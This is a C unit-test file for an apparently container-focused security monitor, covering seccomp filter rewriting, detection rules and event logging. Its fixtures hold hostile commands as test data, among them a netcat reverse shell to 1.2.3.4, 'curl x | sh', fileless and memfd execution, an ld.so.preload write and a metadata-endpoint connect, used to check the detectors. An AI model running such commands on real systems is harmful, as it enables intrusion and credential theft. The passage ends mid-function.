// SPDX-License-Identifier: GPL-2.0-or-later
/* The monitor's pure parts: filter table, transform, rule evaluation, events. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <errno.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "hardrun/cleanup.h"
#include "hardrun/fsutil.h"
#include "hardrun/state.h"
#include "hardrun/learn.h"
#include "hardrun/monitor_int.h"
#include "testutil.h"

/* Every conditional entry: notify and allow are disjoint and cover all args. */
START_TEST(test_table_partition)
{
	unsigned n;
	const struct nf_entry *t = nfilter_table(&n);
	static const uint64_t vals[] = {
		0,     1,	2,	 3,	     4,		 5,	     6,	    7,
		8,     9,	10,	 11,	     15,	 16,	     17,    18,
		19,    20,	27,	 28,	     29,	 40,	     0x40,  0x41,
		0x42,  0x43,	0x200,	 0x201,	     0x241,	 04000,	     02000, 06000,
		04755, 0x80803, 0x20000, 0x10000000, 0x10020000, 0x10000011, ~0ull
	};
	const size_t nv = sizeof(vals) / sizeof(vals[0]);
	for (unsigned i = 0; i < n; i++) {
		if (t[i].n_notify == 0)
			continue;
		for (size_t a = 0; a < nv; a++)
			for (size_t b = 0; b < nv; b++)
				for (size_t c = 0; c < nv; c += 7) {
					uint64_t args[6] = { vals[a], vals[b], vals[c], 0, 0, 0 };
					unsigned hits = 0;
					for (unsigned k = 0; k < t[i].n_notify; k++)
						hits += nfilter_alt_match(&t[i].notify[k], args);
					for (unsigned k = 0; k < t[i].n_allow; k++)
						hits += nfilter_alt_match(&t[i].allow[k], args);
					ck_assert_msg(hits == 1, "%s: args %llx %llx %llx: %u",
						      t[i].name, (unsigned long long)args[0],
						      (unsigned long long)args[1],
						      (unsigned long long)args[2], hits);
				}
	}
}
END_TEST

START_TEST(test_alt_and)
{
	struct nf_alt r;
	struct nf_alt meq0 = { 1, { { 0, NF_MASKED_EQ, 0x7E020000, 0 } } };
	struct nf_alt newuser = { 1, { { 0, NF_MASKED_EQ, 0x10020000, 0x10000000 } } };
	struct nf_alt eq2 = { 1, { { 0, NF_EQ, 2, 0 } } };
	struct nf_alt ne17 = { 1, { { 0, NF_NE, 17, 0 } } };
	struct nf_alt ne40 = { 1, { { 0, NF_NE, 40, 0 } } };
	ck_assert_int_eq(nfilter_alt_and(&meq0, &newuser, &r), 0); /* docker clone: empty */
	ck_assert_int_eq(nfilter_alt_and(&eq2, &ne17, &r), 1);
	ck_assert(r.n == 1 && r.c[0].op == NF_EQ && r.c[0].v == 2);
	ck_assert_int_eq(nfilter_alt_and(&ne40, &ne17, &r), -EOPNOTSUPP);
	struct nf_alt m1 = { 1, { { 1, NF_MASKED_EQ, 0x3, 1 } } };
	ck_assert_int_eq(nfilter_alt_and(&ne17, &m1, &r), 1);
	ck_assert_int_eq(r.n, 2);
}
END_TEST

static struct json *_parse(const char *s)
{
	struct json *j = NULL;
	struct err e = { 0 };
	ck_assert_msg(json_parse(s, strlen(s), &j, &e) == 0, "%s", e.msg);
	return j;
}

static unsigned _count(const struct json *sc, const char *name, const char *action)
{
	unsigned n = 0;
	const struct json *sys = json_get(sc, "syscalls");
	json_foreach (i, sys) {
		const struct json *names = json_get(sys->items[i], "names");
		const char *a = json_string(json_get(sys->items[i], "action"));
		json_foreach (k, names)
			n += strcmp(json_string(names->items[k]), name) == 0 &&
			     (!action || strcmp(a, action) == 0);
	}
	return n;
}

START_TEST(test_apply_docker_like)
{
	struct err e = { 0 };
	_cleanup_json_ struct json *sc = _parse(
		"{\"defaultAction\":\"SCMP_ACT_ERRNO\",\"defaultErrnoRet\":1,\"syscalls\":["
		"{\"names\":[\"read\",\"execve\",\"socket\",\"openat\"],\"action\":\"SCMP_ACT_"
		"ALLOW\"},"
		"{\"names\":[\"clone\"],\"action\":\"SCMP_ACT_ALLOW\",\"args\":[{\"index\":0,"
		"\"value\":2114060288,\"valueTwo\":0,\"op\":\"SCMP_CMP_MASKED_EQ\"}]}]}");
	ck_assert_int_eq(nfilter_apply(sc, ~0u, false, &e), 0);
	ck_assert_int_eq(_count(sc, "read", "SCMP_ACT_ALLOW"), 1);    /* untouched */
	ck_assert_int_eq(_count(sc, "execve", "SCMP_ACT_NOTIFY"), 1); /* unconditional */
	ck_assert_int_eq(_count(sc, "execve", "SCMP_ACT_ALLOW"), 0);
	ck_assert_int_eq(_count(sc, "socket", "SCMP_ACT_NOTIFY"), 3);
	ck_assert_int_eq(_count(sc, "socket", "SCMP_ACT_ALLOW"), 6);
	ck_assert_int_eq(_count(sc, "openat", "SCMP_ACT_NOTIFY"), 4);
	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_NOTIFY"), 0); /* denied already */
	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_ALLOW"), 1);
	ck_assert_int_eq(_count(sc, "mount", NULL), 0); /* denied: stays denied */
	ck_assert_int_eq(_count(sc, "write", NULL), 0);
	/* reporting denials: runc refuses a NOTIFY default, so the default stays and
	 * the known syscalls no rule names are notified; deviations are recognised */
	ck_assert_int_eq(nfilter_apply(sc, ~0u, true, &e), 0);
	ck_assert_str_eq(json_string(json_get(sc, "defaultAction")), "SCMP_ACT_ERRNO");
	ck_assert_int_eq(_count(sc, "mount", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(sc, "futex", NULL), 0); /* runc init needs it un-notified */
	ck_assert_int_eq(_count(sc, "write", NULL), 0);
	uint64_t args[6] = { 0 };
	ck_assert(nfilter_is_deviation(sc, "mount", args));
	ck_assert(!nfilter_is_deviation(sc, "read", args));
	args[1] = 3; /* socket(AF_INET, SOCK_RAW): a monitor rule, not a deviation */
	args[0] = 2;
	ck_assert(!nfilter_is_deviation(sc, "socket", args));
}
END_TEST

/* 32-bit-only calls the profile denies are reported too, where the filter
 * has the x86 ABI. */
START_TEST(test_apply_reports_x86_only)
{
	struct err e = { 0 };
#define X86_ONLY_FILTER(arches)                                                                    \
	"{\"defaultAction\":\"SCMP_ACT_ERRNO\",\"architectures\":[" arches "],"                    \
	"\"syscalls\":[{\"names\":[\"read\",\"socketcall\"],\"action\":\"SCMP_ACT_ALLOW\"}]}"
	_cleanup_json_ struct json *both =
		_parse(X86_ONLY_FILTER("\"SCMP_ARCH_X86_64\",\"SCMP_ARCH_X86\""));
	_cleanup_json_ struct json *native = _parse(X86_ONLY_FILTER("\"SCMP_ARCH_X86_64\""));
	ck_assert_int_eq(nfilter_apply(both, ~0u, true, &e), 0);
	ck_assert_int_eq(nfilter_apply(native, ~0u, true, &e), 0);
	ck_assert_int_eq(_count(both, "stat64", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(both, "waitpid", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(both, "socketcall", "SCMP_ACT_NOTIFY"), 0); /* allowed */
	ck_assert_int_eq(_count(both, "mount", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(native, "stat64", NULL), 0);
	ck_assert_int_eq(_count(native, "mount", "SCMP_ACT_NOTIFY"), 1);
	uint64_t args[6] = { 0 };
	ck_assert(nfilter_is_deviation(both, "stat64", args));
}
END_TEST

/* errnoRet of the rule naming name with action (or -1). */
static int64_t _errno_of(const struct json *sc, const char *name, const char *action)
{
	const struct json *sys = json_get(sc, "syscalls");
	json_foreach (i, sys) {
		const struct json *r = sys->items[i], *names = json_get(r, "names");
		json_foreach (k, names) {
			int64_t v = -1;
			if (strcmp(json_string(names->items[k]), name) == 0 &&
			    strcmp(json_string(json_get(r, "action")), action) == 0)
				return json_to_int64(json_get(r, "errnoRet"), &v) == 0 ? v : -1;
		}
	}
	return -1;
}

/* The bundle's own filter (an allowlist with mkdir denied EACCES, clone by
 * flags) keeps its denials under enforce/audit: only the profile's own
 * denials become NOTIFY. */
#define OWN_FILTER                                                                                 \
	"{\"defaultAction\":\"SCMP_ACT_ERRNO\",\"defaultErrnoRet\":1,"                             \
	"\"architectures\":[\"SCMP_ARCH_X86_64\"],\"syscalls\":["                                  \
	"{\"names\":[\"read\",\"execve\",\"openat\",\"mount\",\"exit_group\",\"futex\"],"          \
	"\"action\":\"SCMP_ACT_ALLOW\"},"                                                          \
	"{\"names\":[\"mkdir\"],\"action\":\"SCMP_ACT_ERRNO\",\"errnoRet\":13},"                   \
	"{\"names\":[\"clone\"],\"action\":\"SCMP_ACT_ALLOW\",\"args\":[{\"index\":0,"             \
	"\"value\":2114060288,\"valueTwo\":0,\"op\":\"SCMP_CMP_MASKED_EQ\"}]}]}"

START_TEST(test_keep_own_enforce)
{
	struct err e = { 0 };
	_cleanup_json_ struct json *own = _parse(OWN_FILTER);
	/* what the engine made of own + a profile that allows read, execve,
	 * openat and mkdir, and denies mount (EPERM) */
	_cleanup_json_ struct json *sc =
		_parse("{\"defaultAction\":\"SCMP_ACT_ERRNO\",\"defaultErrnoRet\":1,"
		       "\"architectures\":[\"SCMP_ARCH_X86_64\"],\"syscalls\":["
		       "{\"names\":[\"read\",\"execve\",\"openat\",\"exit_group\",\"futex\"],"
		       "\"action\":\"SCMP_ACT_ALLOW\"},"
		       "{\"names\":[\"mkdir\"],\"action\":\"SCMP_ACT_ERRNO\",\"errnoRet\":13},"
		       "{\"names\":[\"mount\"],\"action\":\"SCMP_ACT_ERRNO\",\"errnoRet\":1}]}");
	ck_assert_int_eq(nfilter_apply(sc, ~0u, true, &e), 0);
	ck_assert_int_eq(_count(sc, "mkdir", "SCMP_ACT_NOTIFY"), 1); /* before: weakened */
	ck_assert_int_eq(nfilter_keep_own(sc, own, false, &e), 0);
	/* the bundle's own EACCES denial is the kernel's again */
	ck_assert_int_eq(_count(sc, "mkdir", "SCMP_ACT_NOTIFY"), 0);
	ck_assert_int_eq(_errno_of(sc, "mkdir", "SCMP_ACT_ERRNO"), 13);
	/* the profile's own denial (own allows mount) is still reported */
	ck_assert_int_eq(_count(sc, "mount", "SCMP_ACT_NOTIFY"), 1);
	uint64_t args[6] = { 0 };
	ck_assert(nfilter_is_deviation(sc, "mount", args));
	ck_assert(!nfilter_is_deviation(sc, "mkdir", args));
	/* calls own's default denies are not notified (the kernel answers EPERM) */
	ck_assert_int_eq(_count(sc, "reboot", "SCMP_ACT_NOTIFY"), 0);
	ck_assert_int_eq(_count(sc, "getdents64", "SCMP_ACT_NOTIFY"), 0);
	/* clone: own decides by flags; the profile denied it: own's allow is
	 * notified as a deviation, its flags kept */
	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_NOTIFY"), 1);
	/* no own filter: nothing changes */
	_cleanup_json_ struct json *none = json_new_null(), *before = json_clone(sc);
	ck_assert_int_eq(nfilter_keep_own(sc, none, false, &e), 0);
	ck_assert_int_eq(json_get(sc, "syscalls")->n, json_get(before, "syscalls")->n);
}
END_TEST

START_TEST(test_keep_own_learn)
{
	struct err e = { 0 };
	_cleanup_json_ struct json *own = _parse(OWN_FILTER);
	_cleanup_json_ struct json *sc = json_new_object();
	ck_assert_int_eq(learn_prepare(sc, &e), 0);
	ck_assert_int_eq(_count(sc, "mkdir", "SCMP_ACT_NOTIFY"), 1); /* learned... */
	ck_assert_int_eq(nfilter_keep_own(sc, own, true, &e), 0);
	/* ...but the bundle denies it: denied in the kernel with its errno */
	ck_assert_int_eq(_count(sc, "mkdir", "SCMP_ACT_NOTIFY"), 0);
	ck_assert_int_eq(_errno_of(sc, "mkdir", "SCMP_ACT_ERRNO"), 13);
	/* a call own's default denies: own's errno, not the learn filter's ENOSYS */
	ck_assert_int_eq(_count(sc, "getdents64", "SCMP_ACT_NOTIFY"), 0);
	ck_assert_int_eq(_errno_of(sc, "getdents64", "SCMP_ACT_ERRNO"), 1);
	/* allowed by own: recorded as before */
	ck_assert_int_eq(_count(sc, "execve", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(sc, "openat", "SCMP_ACT_NOTIFY"), 1);
	/* by flags in own: own's rule, notified */
	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_NOTIFY"), 1);
	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_ALLOW"), 0);
	/* architectures: only the ones own has */
	ck_assert_int_eq(json_get(sc, "architectures")->n, 1);
}
END_TEST

struct fixture {
	const char *name;
	uint64_t args[6];
	int session;
	bool started;
	const char *comm;
	const char *path, *argv0, *argv1, *fd_link;
	bool fd_inet, known; /* fd_inet: the exec's stdio_inet */
	int family;
	uint8_t addr[4];
	uint16_t port;
	int expect; /* rule id or -1 */
};

static const struct fixture _fixtures[] = {
	{ "execve",
	  { 0 },
	  0,
	  false,
	  "runc:[2:INIT]",
	  "/bin/sh",
	  "sh",
	  "-c",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  -1 }, /* the entrypoint */
	{ "execve",
	  { 0 },
	  1,
	  false,
	  "runc:[2:INIT]",
	  "/bin/sh",
	  "sh",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_TERMINAL_SHELL },
	{ "execve",
	  { 0 },
	  0,
	  true,
	  "python3",
	  "/bin/bash",
	  "bash",
	  "-i",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_TERMINAL_SHELL },
	{ "execve", { 0 }, 0, true, "sh", "/bin/ls", "ls", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "execve",
	  { 0 },
	  0,
	  true,
	  "sh",
	  "/tmp/evil",
	  "evil",
	  "",
	  "",
	  false,
	  false,
	  0,
	  { 0 },
	  0,
	  RULE_DRIFT_EXEC },
	{ "execve",
	  { 0 },
	  0,
	  true,
	  "sh",
	  "/dev/shm/x",
	  "x",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_FILELESS_EXEC },
	{ "execveat",
	  { 3, 0, 0, 0, 0x1000 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "/memfd:x (deleted)",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_FILELESS_EXEC },
	{ "execve", /* nc -e /bin/true: the socket on its stdio */
	  { 0 },
	  0,
	  true,
	  "nc",
	  "/bin/true",
	  "true",
	  "",
	  "",
	  true,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_REVERSE_SHELL },
	{ "execve", { 0 }, 0, true, "sh", "/bin/sh", "sh", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "socket",
	  { 17, 3 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_RAW_SOCKET },
	{ "socket", { 2, 1 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "connect",
	  { 3, 0, 16 },
	  0,
	  true,
	  "curl",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  2,
	  { 169, 254, 169, 254 },
	  80,
	  RULE_METADATA_CONNECT },
	{ "connect",
	  { 3, 0, 16 },
	  0,
	  true,
	  "curl",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  2,
	  { 10, 96, 0, 1 },
	  443,
	  RULE_METADATA_CONNECT },
	{ "connect",
	  { 3, 0, 16 },
	  0,
	  true,
	  "curl",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  2,
	  { 10, 96, 0, 1 },
	  80,
	  -1 },
	{ "ptrace",
	  { 16, 5 },
	  0,
	  true,
	  "gdb",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_PTRACE },
	{ "ptrace", { 0 }, 0, true, "strace", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "finit_module",
	  { 3 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_KERNEL_MODULE },
	{ "bpf", { 5 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, RULE_BPF },
	{ "bpf", { 0 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "perf_event_open",
	  { 0 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_PERF_EVENT },
	{ "mount", { 0 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, RULE_MOUNT },
	{ "unshare",
	  { 0x10000000 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_NAMESPACE_ESCAPE },
	{ "clone", { 0x11 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
	{ "fchmodat",
	  { 0, 0, 04755 },
	  0,
	  true,
	  "a",
	  "/tmp/x",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_SETUID_BIT },
	{ "openat",
	  { 0, 0, 01101 },
	  0,
	  true,
	  "a",
	  "/etc/ld.so.preload",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_SENSITIVE_WRITE },
	{ "openat",
	  { 0, 0, 0101 },
	  0,
	  true,
	  "a",
	  "/tmp/log",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  -1 },
	{ "openat",
	  { 0, 0, 0 },
	  0,
	  true,
	  "a",
	  "/etc/passwd",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  -1 },
	{ "io_uring_setup",
	  { 4 },
	  0,
	  true,
	  "a",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  RULE_IO_URING },
	{ "mount",
	  { 0 },
	  0,
	  false,
	  "runc:[2:INIT]",
	  "",
	  "",
	  "",
	  "",
	  false,
	  true,
	  0,
	  { 0 },
	  0,
	  -1 }, /* before the first execve: the runtime's own */
};

START_TEST(test_eval_fixtures)
{
	struct mon_rules r;
	eval_rules_default(&r);
	r.drift = true;
	strcpy(r.k8s_host, "10.96.0.1");
	r.k8s_port = 443;
	for (size_t i = 0; i < sizeof(_fixtures) / sizeof(_fixtures[0]); i++) {
		const struct fixture *f = &_fixtures[i];
		struct mon_call c = {
			.pid = 10, .name = f->name, .session = f->session, .started = f->started
		};
		struct mon_proc p = { .pid = 10, .ppid = 1 };
		struct mon_evidence ev = { .stdio_inet = f->fd_inet,
					   .known_binary = f->known,
					   .family = f->family,
					   .port = f->port };
		struct mon_verdict v;
		memcpy(c.args, f->args, sizeof(c.args));
		strcpy(p.comm, f->comm);
		strcpy(ev.path, f->path);
		strcpy(ev.argv0, f->argv0);
		strcpy(ev.argv1, f->argv1);
		strcpy(ev.fd_link, f->fd_link);
		memcpy(ev.addr, f->addr, 4);
		eval_call(&c, &p, &ev, &r, &v);
		ck_assert_msg(v.rule == f->expect, "fixture %zu (%s): rule %d, want %d", i, f->name,
			      v.rule, f->expect);
		if (v.rule >= 0)
			ck_assert_int_eq(v.action, rules_table[v.rule].default_action);
	}
}
END_TEST

START_TEST(test_rules_from_profile)
{
	struct mon_rules r;
	struct err e = { 0 };
	_cleanup_json_ struct json *ok = _parse("{\"rules\":{\"ptrace\":\"kill\",\"io_uring\":"
						"\"off\"},\"knownBinaries\":[\"/a\"]}");
	_cleanup_json_ struct json *bad = _parse("{\"rules\":{\"nope\":\"alert\"}}");
	_cleanup_json_ struct json *bad2 = _parse("{\"rules\":{\"ptrace\":\"maybe\"}}");
	ck_assert_int_eq(eval_rules_from_profile(ok, &r, &e), 0);
	ck_assert_int_eq(r.action[RULE_PTRACE], ACTION_KILL);
	ck_assert_int_eq(r.action[RULE_IO_URING], ACTION_OFF);
	ck_assert(r.drift);
	ck_assert_int_lt(eval_rules_from_profile(bad, &r, &e), 0);
	ck_assert_int_lt(eval_rules_from_profile(bad2, &r, &e), 0);
	/* shellParents: a learned program that starts shells (tar -z: sh -c gzip) */
	_cleanup_json_ struct json *sp = _parse("{\"shellParents\":[\"tar\"]}");
	struct mon_call x = { .name = "execve", .started = true };
	struct mon_proc tar = { .comm = "tar" }, py = { .comm = "python3" };
	struct mon_evidence sh = { .path = "/bin/sh", .argv0 = "/bin/sh", .argv1 = "-c" };
	struct mon_verdict sv;
	ck_assert_int_eq(eval_rules_from_profile(sp, &r, &e), 0);
	eval_call(&x, &tar, &sh, &r, &sv);
	ck_assert_int_eq(sv.rule, -1);
	eval_call(&x, &py, &sh, &r, &sv);
	ck_assert_int_eq(sv.rule, RULE_TERMINAL_SHELL);
	/* audit downgrades deny/kill to alert; off stays off */
	struct mon_call c = { .name = "bpf", .args = { 5 }, .started = true };
	struct mon_proc p = { 0 };
	struct mon_evidence ev = { 0 };
	struct mon_verdict v;
	eval_rules_default(&r);
	r.audit = true;
	eval_call(&c, &p, &ev, &r, &v);
	ck_assert_int_eq(v.action, ACTION_ALERT);
}
END_TEST

static const struct event_ctx ctx_web = { .container_id = "c0ffee",
					  .container_name = "web",
					  .k8s_ns = "prod",
					  .k8s_pod = "web-1",
					  .image = "nginx:1",
					  .hostname = "node1" };

START_TEST(test_event_golden)
{
	const struct event_ctx x = ctx_web;
	struct timespec t = { 1700000000, 5 };
	struct mon_call c = { .name = "dup2", .session = 0 };
	struct mon_proc p = { .pid = 42, .ppid = 7, .uid = 0 };
	struct mon_verdict v = { .rule = RULE_REVERSE_SHELL, .action = ACTION_DENY };
	strcpy(p.comm, "nc");
	strcpy(p.exe, "/bin/busybox");
	strcpy(p.cmdline, "nc 1.2.3.4 80 -e /bin/sh");
	strcpy(p.pcomm, "sh");
	strcpy(p.cwd, "/");
	strcpy(v.detail, "oldfd=3(socket:[9]) newfd=0");
	_cleanup_json_ struct json *o = event_build(&x, &t, &c, &p, &v);
	_cleanup_free_ char *got = NULL, *want = NULL, *path = NULL;
	size_t len;
	ck_assert(o);
	ck_assert_int_eq(json_dump(o, false, &got, &len, NULL), 0);
	ck_assert(asprintf(&path, "%s/monitor/event.golden.json", getenv("HARDRUN_TEST_DATA")) > 0);
	FILE *f = fopen(path, "re");
	ck_assert_msg(f, "%s", path);
	want = calloc(1, 8192);
	ck_assert(fread(want, 1, 8191, f) > 0);
	fclose(f);
	want[strcspn(want, "\n")] = '\0';
	ck_assert_str_eq(got, want);
	ck_assert(event_line_matches(got, len, "c0ffee", "reverse_shell"));
	ck_assert(!event_line_matches(got, len, "other", NULL));
	ck_assert(!event_line_matches(got, len, NULL, "ptrace"));
}
END_TEST

/* An exec-log record: the new program's path and argv, the caller's image
 * name before the exec and its parent process. */
START_TEST(test_exec_record)
{
	const struct event_ctx x = ctx_web;
	struct timespec t = { 1700000000, 5 };
	struct mon_call c = { .name = "execve", .session = 1 };
	struct mon_proc p = { .pid = 42, .ppid = 7, .uid = 1000 };
	struct mon_evidence ev = { 0 };
	strcpy(p.comm, "sh");
	strcpy(p.pcomm, "sh");
	strcpy(p.pcmdline, "sh -c curl x | sh");
	strcpy(p.cwd, "/srv");
	strcpy(ev.path, "/usr/bin/curl");
	strcpy(ev.argv, "curl x");
	_cleanup_json_ struct json *o = event_build_exec(&x, &t, &c, &p, &ev, "continue");
	_cleanup_free_ char *got = NULL;
	size_t len;
	ck_assert(o);
	ck_assert_int_eq(json_dump(o, false, &got, &len, NULL), 0);
	ck_assert_str_eq(got,
			 "{\"time\":\"2023-11-14T22:13:20.000000005Z\",\"container.id\":\"c0ffee\","
			 "\"session\":1,\"pid\":42,\"uid\":1000,\"path\":\"/usr/bin/curl\","
			 "\"argv\":\"curl x\",\"cwd\":\"/srv\",\"result\":\"continue\","
			 "\"parent\":{\"comm\":\"sh\",\"ppid\":7,\"pcomm\":\"sh\","
			 "\"pcmdline\":\"sh -c curl x | sh\"}}");
}
END_TEST

START_TEST(test_cgroup_path)
{
	char buf[4096];
	const char *v1 = "9:name=systemd:/xc\n8:pids:/kube/pod1/abc\n6:freezer:/kube/pod1/abc\n"
			 "1:cpu,cpuacct:/kube\n0::/xc\n";
	/* the pids hierarchy may not exist in the test environment: only parse */
	int r = cgkill_procs_path(1, v1, buf, sizeof(buf));
	if (r == 0)
		ck_assert(strstr(buf, "/kube/pod1/abc/cgroup.procs") || strstr(buf, "/xc/"));
	ck_assert_int_eq(cgkill_procs_path(1, "8:pids:/\n0::/\n", buf, sizeof(buf)), -ENOENT);
}
END_TEST

/* A state dir <t>/state/<key> with monitor.pid = pid. */
static char *_state_dir(const char *t, const char *root, const char *id, int pid)
{
	char *dir = NULL, path[PATH_MAX], sr[PATH_MAX];
	(void)snprintf(sr, sizeof(sr), "%s/state", t);
	ck_assert_int_eq(state_dir_path(sr, root, id, &dir, NULL), 0);
	ck_assert_int_eq(fs_mkdir_p(dir, 0700, NULL), 0);
	(void)snprintf(path, sizeof(path), "%s/monitor.pid", dir);
	FILE *f = fopen(path, "we");
	ck_assert_ptr_nonnull(f);
	fprintf(f, "%d\n", pid);
	fclose(f);
	return dir;
}

static bool _exists(const char *p)
{
	struct stat st;
	return lstat(p, &st) == 0;
}

START_TEST(test_state_finish)
{
	char t[] = "/tmp/check_monitor.XXXXXX", root[256], rs[PATH_MAX];
	ck_assert_ptr_nonnull(mkdtemp(t));
	(void)snprintf(root, sizeof(root), "%s/runc", t);
	struct monitor_spec s = { .container_id = "c1", .runtime_root = root };

	/* runc's state still there: the dir stays, socket and pid file go */
	s.state_dir = _state_dir(t, root, "c1", (int)getpid());
	(void)snprintf(rs, sizeof(rs), "%s/c1", root);
	ck_assert_int_eq(fs_mkdir_p(rs, 0700, NULL), 0);
	(void)strcat(rs, "/state.json");
	fclose(fopen(rs, "we"));
	ck_assert_int_eq(asprintf(&s.socket_path, "%s/monitor.sock", s.state_dir) > 0, 1);
	fclose(fopen(s.socket_path, "we"));
	monitor_state_finish(&s, 0);
	ck_assert(_exists(s.state_dir));
	ck_assert(!_exists(s.socket_path));

	/* runc's state gone, dir owned by another monitor: untouched */
	ck_assert_int_eq(unlink(rs), 0);
	free(_state_dir(t, root, "c1", 1));
	monitor_state_finish(&s, 0);
	ck_assert(_exists(s.state_dir));

	/* not the key dir of (root, id) under its parent: untouched */
	free(_state_dir(t, root, "c1", (int)getpid()));
	s.container_id = "other";
	monitor_state_finish(&s, 0);
	ck_assert(_exists(s.state_dir));

	/* ours, and runc forgot the container: removed, nothing else */
	s.container_id = "c1";
	free(_state_dir(t, root, "c1", (int)getpid()));
	monitor_state_finish(&s, 0);
	ck_assert(!_exists(s.state_dir));
	(void)snprintf(rs, sizeof(rs), "%s/state", t);
	ck_assert(_exists(rs));
	ck_assert(_exists(root));
	free(s.state_dir);
	free(s.socket_path);
	ck_assert_int_eq(fs_rm_rf(t, NULL), 0);
}
END_TEST

/* Connect to the listener at path and send msg with fd attached (fd < 0:
 * none), as runc and crun do; returns the client socket. */
static int _send_state(const char *path, const char *msg, int fd)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ck_assert_int_ge(c, 0);
	ck_assert_uint_lt(strlen(path), sizeof(a.sun_path));
	memcpy(a.sun_path, path, strlen(path) + 1);
	ck_assert_int_eq(connect(c, (struct sockaddr *)&a, sizeof(a)), 0);
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct iovec iov = { .iov_base = (void *)msg, .iov_len = strlen(msg) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
	if (fd >= 0) {
		m.msg_control = u.buf;
		m.msg_controllen = sizeof(u.buf);
		struct cmsghdr *h = CMSG_FIRSTHDR(&m);
		h->cmsg_level = SOL_SOCKET;
		h->cmsg_type = SCM_RIGHTS;
		h->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(h), &fd, sizeof(int));
	}
	ck_assert_int_eq(sendmsg(c, &m, 0), (ssize_t)strlen(msg));
	return c;
}

/* The state messages of runc 1.1 and crun 1.8 (captured with strace), and
 * malformed ones.  Needs root: the listener takes connections from uid 0 only. */
START_TEST(test_listener_messages)
{
	static const struct {
		const char *msg;
		bool with_fd;
		int err; /* 0: accepted */
		int pid; /* when accepted */
		const char *id, *bundle, *status;
	} cases[] = {
		{ "{\"ociVersion\":\"1.0.2-dev\",\"fds\":[\"seccompFd\"],\"pid\":12798,"
		  "\"metadata\":\"hardrun/1 mode=enforce\",\"state\":{\"ociVersion\":\"1.0.2-dev\","
		  "\"id\":\"xx1\",\"status\":\"creating\",\"pid\":12798,\"bundle\":\"/b\"}}",
		  true, 0, 12798, "xx1", "/b", "creating" },
		/* crun's exec: pid 0, bundle "." */
		{ "{\"ociVersion\":\"0.2.0\",\"fds\":[\"seccompFd\"],\"pid\":0,"
		  "\"metadata\":\"hardrun/1 mode=enforce\",\"state\":{\"ociVersion\":\"0.2.0\","
		  "\"id\":\"c1\",\"status\":\"running\",\"pid\":0,\"bundle\":\".\"}}\n",
		  true, 0, 0, "c1", ".", "running" },
		{ "{\"fds\":[\"seccompFd\"],\"pid\":-1,\"state\":{}}", true, EBADMSG, 0, NULL, NULL,
		  NULL },
		{ "{\"fds\":[\"seccompFd\"],\"pid\":4294967296,\"state\":{}}", true, EBADMSG, 0,
		  NULL, NULL, NULL },
		{ "{\"fds\":[\"seccompFd\"],\"state\":{}}", true, EBADMSG, 0, NULL, NULL, NULL },
		{ "{\"fds\":[\"pidFd\"],\"pid\":1,\"state\":{}}", true, EBADMSG, 0, NULL, NULL,
		  NULL },
		{ "{\"fds\":[\"seccompFd\"],\"pid\":1,\"state\":{}}", false, EBADMSG, 0, NULL, NULL,
		  NULL },
		{ "{\"fds\":[\"seccompFd\"],\"pid\":", true, EINVAL, 0, NULL, NULL, NULL },
	};
	if (geteuid() != 0)
